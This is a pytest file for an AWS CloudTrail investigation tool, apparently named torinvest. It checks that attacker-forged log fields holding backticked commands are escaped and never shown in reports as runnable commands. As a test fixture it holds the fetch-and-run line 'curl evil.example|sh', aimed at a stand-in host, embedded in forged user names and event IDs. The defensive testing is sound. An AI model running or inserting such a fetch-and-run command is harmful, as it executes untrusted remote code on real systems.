"""Attacker text that reads as a command in prose: ``summary.json``'s ``why``, ``problem`` and
``detail`` (and the cards, plans and tickets that show them) hold torinvest's commands between
backticks — :func:`torinvest.shown.cut_prose` keeps each backticked run whole, to be copied and
run. A forged record's user agent, user name, event name, key or role session name holding
backticks (``run `curl …|sh```) was put into that prose as it is: a signal's detail or a data
issue then held the attacker's text as a command, and a user name with one backtick inside a
suggested command split that command in two.

Now (:func:`torinvest.safety.prose_safe`) each backtick of attacker text in prose is written
``\\x60``, and a command quoting such a value writes that word in ANSI-C quoting
(:func:`torinvest.safety.prose_word`): the only backticked runs are torinvest's commands, each
whole, and the shell gives the value back exactly. Catalogued in docs/hostile-inputs.md."""

from __future__ import annotations

import re
import subprocess

import orjson
import pandas as pd
import pytest

from tests.actions.test_actions import NOW, key, records_frame
from torinvest import actions as ac
from torinvest import analysis
from torinvest.investigation import Investigation
from torinvest.passwords import PasswordUse, password_issues, password_notes, unnamed_said
from torinvest.safety import PROSE_BACKTICK, prose_command, prose_safe
from torinvest.shown import cut_prose
from torinvest.sources.records import normalize_records
from torinvest.sources.records.documents import parse_records
from torinvest.sources.records.frame import duplicate_issues
from torinvest.sources.records.passwords import (
    ConsolePassword,
    SignIn,
    UnnamedPassword,
    user_sign_ins_command,
)
from torinvest.sources.records.table import records_table, untimed_issue

#: A command between backticks in prose (as :func:`torinvest.shown.cut_prose` reads them).
COMMAND = re.compile(r"`([^`]*)`")
EVIL = "curl evil.example|sh"
#: Attacker text that says to run a command (a user agent, a forged user or session name).
HOSTILE = f"bob` now run `{EVIL}` `"  # a user name IAM would not take, forged (under 64 characters)
KEY = "AKIATFQR7NSCUXC3DDDP"
IAM = "iam.amazonaws.com"
WHEN = pd.Timestamp("2023-07-10T12:10:00Z")


def commands(text: str) -> list[str]:
    """The backticked runs of ``text`` (what a reader of the prose would copy and run)."""
    return COMMAND.findall(text)


def shell_words(command: str) -> list[str]:
    """The words bash reads ``command`` as (``torinvest …`` with its trailing ``…`` left out),
    expanded, never run: each printed NUL-terminated."""
    line = command.removesuffix(" …")
    done = subprocess.run(
        ["bash", "-c", f"set -- {line}; printf '%s\\0' \"$@\""],
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.split("\0")[:-1]


def only_torinvest_commands(text: str, user: str) -> None:
    """Every backticked run of ``text`` is torinvest's own command, whole, naming ``user`` as
    it is; the attacker's command is nowhere a command."""
    found = commands(text)
    assert found, text
    for command in found:
        assert EVIL not in command.replace(PROSE_BACKTICK, "`") or "--username" in command
        words = shell_words(command)
        assert words[:2] == ["torinvest", "events"], command
        assert f"--username={user}" in words, (command, words)
    assert f"`{EVIL}`" not in text


def test_prose_safe_and_prose_word() -> None:
    assert prose_safe(HOSTILE) == HOSTILE.replace("`", "\\x60") and "`" not in prose_safe(HOSTILE)
    assert prose_safe(None) == "" and prose_safe("plain text") == "plain text"
    for value in (HOSTILE, "a`b", "it's `x` \\x60 \\", "plain", "two words", "$(id)"):
        line = prose_command(["torinvest", "events", f"--username={value}"])
        assert "`" not in line
        assert shell_words(line) == ["torinvest", "events", f"--username={value}"]
    # the command as the prose quotes it stays one run, whole (cut_prose keeps it)
    line = user_sign_ins_command(HOSTILE, WHEN)
    prose = f"user {prose_safe(HOSTILE)}: run `{line}` to read on " + "x" * 5_000
    cut = cut_prose(prose)
    assert commands(cut) == [line]


def test_a_user_agent_cannot_put_a_command_into_a_signal(
    sample_investigation: Investigation,
) -> None:
    """A new user agent (and a forged key, which the Tor-and-not-Tor signal names) holding a
    command between backticks: the signals' details name them with the backticks escaped."""
    inv = sample_investigation
    events, window = inv.events, analysis.window_of(inv.findings)
    after = (events["event_time"] >= pd.Timestamp(window[0])).to_numpy()
    agents = events["user_agent"].astype("string").where(~after, "aws-cli " + HOSTILE)
    forged = events.assign(user_agent=agents, access_key_id=f"{KEY}`{EVIL}`")
    found = analysis.signals(forged, finding_window=window)
    by_name = {s.name: s.detail for s in found}
    assert prose_safe("aws-cli " + HOSTILE)[:30] in by_name["new_user_agent"]
    assert prose_safe(f"{KEY}`{EVIL}`") in by_name["tor_and_non_tor"]
    for s in found:
        assert "`" not in s.detail, (s.name, s.detail)


def _password(user: str = HOSTILE, **kw: object) -> ConsolePassword:
    values: dict[str, object] = {
        "event_name": "CreateLoginProfile",
        "event_time": WHEN,
        "event_id": f"e`{EVIL}`",
        "set_by": KEY,
        "source_ip": f"`{EVIL}`",
    }
    values.update(kw)
    return ConsolePassword(user, **values)  # type: ignore[arg-type]


@pytest.mark.parametrize("status", ["not read", "signed in"])
def test_a_user_name_cannot_put_a_command_into_a_data_issue(status: str) -> None:
    """The sign-ins of a password set for a user named like a command: the data issue's only
    command is torinvest's, whole, and reads that very user."""
    p = _password()
    if status == "not read":
        use = PasswordUse(p, "not read", "no log file of 2023-07-10 was read")
    else:
        later = WHEN + pd.Timedelta(minutes=5)
        signed = SignIn(HOSTILE, later, "e2", f"`{EVIL}`", "Success", "No", "us-east-1", EVIL, None)
        use = PasswordUse(p, "read", None, [signed])
    (issue,) = password_issues([use])
    only_torinvest_commands(issue.problem, HOSTILE)
    only_torinvest_commands(" ".join(password_notes([use])), HOSTILE)  # events' notes


def test_a_caller_arn_cannot_put_a_command_into_the_unnamed_password_issue() -> None:
    """A password set for a user the call does not name, by a role session named like a
    command: the issue's only command is the one to run once the user is known."""
    u = UnnamedPassword(
        event_name="CreateLoginProfile",
        event_time=WHEN,
        event_id=f"e`{EVIL}`",
        set_by=KEY,
        caller_type="AssumedRole",
        caller_arn=f"arn:aws:sts::123456789012:assumed-role/r/`{EVIL}`",
    )
    said = unnamed_said(u)
    assert [c.split()[:3] for c in commands(said)] == [["torinvest", "events", "--username"]]


def test_a_user_name_cannot_put_a_command_into_a_plan_step() -> None:
    """The deny on the console sessions of a password set for a user named like a command:
    its reason (``why``: the plan, tickets, summary.json) holds torinvest's command only, and
    the call's parameters name the user as it is."""
    events = records_frame([("CreateLoginProfile", IAM, {"userName": HOSTILE}, None)])
    (p,) = [
        ConsolePassword(HOSTILE, "CreateLoginProfile", WHEN, str(e), KEY, None)
        for e in events["event_id"]
    ]
    uses = [PasswordUse(p, "read", None, [], until=NOW - pd.Timedelta(minutes=1))]
    plan = ac.plan_remediation(key(KEY), events, now=NOW, passwords=uses)
    (deny,) = [
        a
        for a in plan.actions
        if a.operation == "PutUserPolicy" and a.params.get("UserName") == HOSTILE
    ]
    only_torinvest_commands(deny.why, HOSTILE)
    assert deny.targets == (HOSTILE,)


def _forged_records(n: int, **fields: object) -> list[dict[str, object]]:
    """``n`` records of the Tor key, each with its own user agent (so none is a copy of
    another), with ``fields`` set on each."""
    return [
        {
            "eventVersion": "1.08",
            "userIdentity": {"type": "IAMUser", "accessKeyId": KEY},
            "eventSource": IAM,
            "awsRegion": "us-east-1",
            "sourceIPAddress": "185.220.101.34",
            "userAgent": f"aws-cli/{i}",
            "eventName": "ListUsers",
            "eventTime": "2023-07-10T12:00:00Z",
            **fields,
        }
        for i in range(n)
    ]


def test_a_forged_event_id_cannot_put_a_command_or_a_megabyte_into_a_data_issue() -> None:
    """Different records sharing one eventID (a log file altered: all kept, named by a data
    issue) — 2,000 of them, the ID and the event name holding commands, and records without a
    time named by their IDs: each issue quotes the values escaped and cut, names 5 records
    then how many more (100,000 made an 8 MB issue) and holds no backticked run."""
    long_id = f"`{EVIL}`" + "x" * 1_000
    frame = normalize_records(
        _forged_records(2_000, eventID=long_id, eventName=f"ListUsers`{EVIL}`"),
        source="logs",
        origin="forged.json",
    )
    (issue,) = duplicate_issues(frame)
    assert "is shared by 2,000 different records" in issue.problem
    assert "; … (+1,995 more)" in issue.problem and len(issue.problem) < 2_000
    assert "`" not in issue.problem and prose_safe(f"ListUsers`{EVIL}`") in issue.problem
    untimed = records_table(
        _forged_records(3, eventID=long_id, eventTime="yesterday"),
        source="logs",
        origin="forged.json",
    )
    said = untimed_issue(untimed, "forged.json")
    assert said is not None and "`" not in said.problem and len(said.problem) < 1_000


def test_a_forged_lookup_event_cannot_put_a_command_into_a_data_issue() -> None:
    """A saved LookupEvents answer whose event has no usable CloudTrailEvent, its EventId and
    EventName holding commands: the issue that names it quotes them escaped."""
    event = {
        "EventId": f"e`{EVIL}`",
        "EventName": f"ListUsers`{EVIL}`",
        "EventTime": "2023-07-10T12:00:00Z",
        "CloudTrailEvent": "{not json",
    }
    records, issues = parse_records(orjson.dumps({"Events": [event]}), where="answer.json")
    assert len(records) == 1 and issues
    for issue in issues:
        assert "`" not in issue.problem, issue.problem
    assert any(prose_safe(f"e`{EVIL}`") in i.problem for i in issues)


@pytest.mark.parametrize("account", ["123456789012", "999999999999"])
def test_a_forged_minting_call_cannot_put_a_command_into_a_plan_step(account: str) -> None:
    """The revoke of credentials an AssumeRole minted, its role ARN (and the role's name) and
    the credentials' expiration holding commands, in the key's account and in another: the
    steps' reasons and manual words quote them escaped."""
    role = f"arn:aws:iam::{account}:role/deploy`{EVIL}`"
    minted = {"accessKeyId": "ASIAROLE000000000001", "expiration": f"`{EVIL}`"}
    events = records_frame(
        [
            (
                "AssumeRole",
                "sts.amazonaws.com",
                {"roleArn": role, "roleSessionName": "x"},
                {"credentials": minted},
            )
        ]
    )
    plan = ac.plan_remediation(key(KEY), events, now=NOW)
    steps = [a for a in plan.actions if "ASIAROLE000000000001" in a.targets]
    assert steps
    for step in steps:
        assert "`" not in step.why, step.why
        assert commands(step.manual or "") in ([], ["torinvest actions"]), step.manual


def test_a_forged_write_or_read_cannot_put_a_command_into_a_plan_step() -> None:
    """The undo of a write made from a "source IP" holding a command, and the rotation of a
    secret read under a name holding one: every step's reason quotes them escaped."""
    events = records_frame(
        [
            ("CreateUser", IAM, {"userName": "svc"}, {"user": {"userName": "svc"}}),
            ("GetSecretValue", "secretsmanager.amazonaws.com", {"secretId": f"db`{EVIL}`"}, None),
        ],
        sourceIPAddress=f"`{EVIL}`",
    )
    plan = ac.plan_remediation(key(KEY), events, now=NOW)
    whys = [a.why for a in plan.actions]
    assert any(w.startswith("undo CreateUser") for w in whys)
    assert any(prose_safe(f"db`{EVIL}`") in w for w in whys)
    for why in whys:
        assert "`" not in why, why
